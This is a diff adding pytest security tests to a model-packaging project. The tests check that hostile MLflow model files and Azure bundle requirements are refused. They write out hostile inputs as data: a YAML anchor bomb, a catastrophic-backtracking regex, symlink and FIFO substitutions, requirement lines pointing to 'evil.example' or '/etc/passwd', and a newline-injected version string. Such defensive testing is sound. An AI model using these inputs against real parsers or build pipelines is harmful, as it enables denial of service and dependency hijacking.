@@ -9,22 +9,27 @@ from typing import Any
 
 import onnx
 import pytest
+import yaml
+from mlflow.utils.file_utils import local_file_uri_to_path
 from onnx import helper
 from yaml import YAMLError
 
 from phi3kit.core.embedded_model import MODEL_FOLDER
 from phi3kit.core.errors import ModelNotFound, SourceInvalid
 from phi3kit.core.records import WrapperName
+from phi3kit.deployment import azure
 from phi3kit.formats import onnx_file
 from phi3kit.formats.model_copy import copy_model
 from phi3kit.packaging.sources.find import find_source
-from phi3kit.tracking.logged_models import resolve
-from phi3kit.worker.loading import copy_logged, load_runtime
+from phi3kit.tracking.logged_models import resolve, signature_of
+from phi3kit.tracking.store import BUILDS_EXPERIMENT, experiment_id, open_store
+from phi3kit.worker.loading import copy_logged, load_runtime, sliding_window
 from phi3kit.worker.scoring import answer, load_known
 from tests.conftest import Built, run_cli, settings_for
 from tests.support.actors import ADMIN
 from tests.support.folders import edit_json
 from tests.support.samples import new_store
+from tests.support.scripted_server import http_answer, scripted
 
 SMALL = ("config.json", "generation_config.json", "tokenizer.json", "tokenizer_config.json")
 
@@ -618,6 +623,155 @@ class TestLoggedModel:
         pattern = {"type": "Split", "pattern": {"Regex": "(a+)+$"}, "behavior": "Isolated", "invert": False}
         edit_json(folder / "components/tokenizer/tokenizer.json", pre_tokenizer=pattern)
         assert "splits by a pattern" in self.why(folder, "transformers")
+
+
+BOMB = "a0: &a0 {x: 1}\n" + "".join(
+    f"a{at}: &a{at} {{<<: [{', '.join([f'*a{at - 1}'] * 9)}]}}\n" for at in range(1, 25)
+)
+
+
+class Placed:
+    """A logged model in a store of its own, whose MLmodel says something else."""
+
+    def __init__(self, built: Built, home: Path) -> None:
+        self.settings = new_store(home)
+        experiment = experiment_id(self.settings, BUILDS_EXPERIMENT)
+        made = open_store(self.settings).create_logged_model(experiment, name="evil")
+        self.uri = f"models:/{made.model_id}"
+        self.folder = Path(local_file_uri_to_path(made.artifact_location))
+        shutil.copytree(resolve(built.uri("onnx"), built.settings).folder, self.folder, dirs_exist_ok=True)
+
+    def change(self, change: Callable[[dict[str, Any]], object]) -> None:
+        described = yaml.safe_load((self.folder / "MLmodel").read_text())
+        change(described)
+        (self.folder / "MLmodel").write_text(yaml.safe_dump(described))
+
+    def refusals(self) -> list[str]:
+        """What the app and the worker say."""
+        said = []
+        for ask in (
+            lambda: resolve(self.uri, self.settings),
+            lambda: signature_of(self.uri, self.settings),
+            lambda: load_runtime(self.folder, "onnx", 1),
+            lambda: azure.plan_bundle(self.uri, ADMIN, self.settings),
+        ):
+            with pytest.raises(ModelNotFound) as refused:
+                ask()
+            said.append(refused.value.why)
+        return said
+
+
+@pytest.fixture
+def placed(built: Built, tmp_path: Path) -> Placed:
+    return Placed(built, tmp_path)
+
+
+def nested(levels: int) -> str:
+    kind: dict[str, Any] = {"type": "string"}
+    for _ in range(levels):
+        kind = {"type": "object", "properties": {"a": {**kind, "required": True}}}
+    return json.dumps([{**kind, "name": "x", "required": True}])
+
+
+class TestMlmodel:
+    """The app, the worker and the bundle for Azure read it the same way."""
+
+    @pytest.mark.parametrize(
+        "before",
+        [
+            BOMB,
+            "a: &a {x: 1}\nb: {<<: *a}\n",
+            "x: " + "[" * 5000 + "\n",
+            "x: " + ":".join(["1"] * 2000) + "\n",
+            "x: !!int ''\n",
+            "x: 2024-99-99\n",
+            "# " + "x" * 10**6 + "\n",
+            "? [1]\n: x\n",
+        ],
+        ids=lambda before: before[:12],
+    )
+    def test_one_that_is_more_than_it_seems_is_damaged(self, placed: Placed, before: str) -> None:
+        path = placed.folder / "MLmodel"
+        path.write_text(before + path.read_text())
+        assert all("missing or damaged" in why for why in placed.refusals())
+
+    def test_one_that_is_a_pipe_or_a_link_to_elsewhere_is_not_read(self, placed: Placed, tmp_path: Path) -> None:
+        path = placed.folder / "MLmodel"
+        path.rename(tmp_path / "outside")
+        path.symlink_to(tmp_path / "outside")
+        assert all("missing or damaged" in why for why in placed.refusals())
+        path.unlink()
+        os.mkfifo(path)
+        assert all("missing or damaged" in why for why in placed.refusals())
+
+    @pytest.mark.parametrize(
+        "values",
+        [
+            {"flavors": [1]},
+            {"flavors": {5: {}}},
+            {"flavors": {"python_function": [1]}},
+            {"flavors": {"python_function": {"artifacts": "phi3-mini-onnx"}}},
+            {"flavors": {"python_function": {"artifacts": {"phi3-mini-onnx": {"x": 1}}}}},
+            {"flavors": {"python_function": {"artifacts": {"phi3-mini-onnx": 1}, "model_code_path": 5}}},
+            {"metadata": [1]},
+            {"signature": {"inputs": nested(200)}},
+            {"signature": {"inputs": [1]}},
+            {"signature": {"inputs": "[" * 10**4}},
+            {"signature": [1]},
+        ],
+        ids=str,
+    )
+    def test_parts_of_another_kind_are_a_sentence(self, placed: Placed, values: dict[str, Any]) -> None:
+        placed.change(lambda described: described.update(values))
+        assert all("Its " in why for why in placed.refusals())
+
+    def test_a_signature_that_mlflow_cannot_read_is_a_sentence(self, placed: Placed) -> None:
+        placed.change(lambda described: described.update(signature={"inputs": '[{"type": 5}]'}))
+        with pytest.raises(ModelNotFound, match="cannot be read"):
+            signature_of(placed.uri, placed.settings)
+
+    @pytest.mark.parametrize("window", ["abc", "-5", "9" * 50])
+    def test_a_window_that_is_no_number_is_none(self, placed: Placed, window: str) -> None:
+        placed.change(lambda described: described["metadata"].update({"phi3kit.sliding_window": window}))
+        sliding_window.cache_clear()
+        assert sliding_window(placed.folder, "onnx") is None
+
+    def test_a_version_whose_source_is_no_model_is_a_sentence(self, placed: Placed) -> None:
+        client = open_store(placed.settings)
+        client.create_registered_model("evil")
+        with scripted(http_answer(200, "x" * 50, "text/plain")) as server:
+            version = client.create_model_version("evil", f"{server.url}/x").version
+            for ask in (resolve, signature_of):
+                with pytest.raises(ModelNotFound):
+                    ask(f"models:/evil/{version}", placed.settings)
+
+
+class TestAzureBundle:
+    @pytest.mark.parametrize(
+        "line", ["--extra-index-url http://evil.example/simple", "evil @ http://evil.example/x.whl", "-r /etc/passwd"]
+    )
+    def test_takes_no_requirement_that_leads_elsewhere(self, placed: Placed, line: str) -> None:
+        with (placed.folder / "requirements.txt").open("a") as file:
+            file.write(f"\n{line}\n")
+        with pytest.raises(ModelNotFound, match="may lead to any package"):
+            azure.plan_bundle(placed.uri, ADMIN, placed.settings)
+
+    def test_takes_no_private_text_by_a_link_and_waits_for_no_pipe(self, placed: Placed, tmp_path: Path) -> None:
+        path = placed.folder / "requirements.txt"
+        path.rename(tmp_path / "private")
+        path.symlink_to(tmp_path / "private")
+        with pytest.raises(ModelNotFound, match="link to elsewhere"):
+            azure.plan_bundle(placed.uri, ADMIN, placed.settings)
+        path.unlink()
+        os.mkfifo(path)
+        with pytest.raises(ModelNotFound, match="is no file"):
+            azure.plan_bundle(placed.uri, ADMIN, placed.settings)
+
+    @pytest.mark.parametrize("python", [None, "evil\nx", "2.7"])
+    def test_takes_no_python_that_is_no_version(self, placed: Placed, python: str | None) -> None:
+        placed.change(lambda described: described["flavors"]["python_function"].update(python_version=python))
+        with pytest.raises(ModelNotFound, match="Python version"):
+            azure.plan_bundle(placed.uri, ADMIN, placed.settings)
 
 
 QUESTIONS = {
